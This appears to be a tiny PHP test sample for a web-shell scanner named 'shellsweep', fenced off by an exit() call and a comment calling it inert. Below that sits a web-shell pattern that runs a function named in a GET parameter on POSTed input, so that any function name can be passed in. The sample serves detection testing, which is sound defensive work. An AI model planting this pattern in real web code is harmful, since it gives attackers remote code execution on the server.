<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$f = $_GET['f'];
$it = new ArrayIterator(array($_POST['a']));
iterator_apply($it, $f, array($_POST['a']));
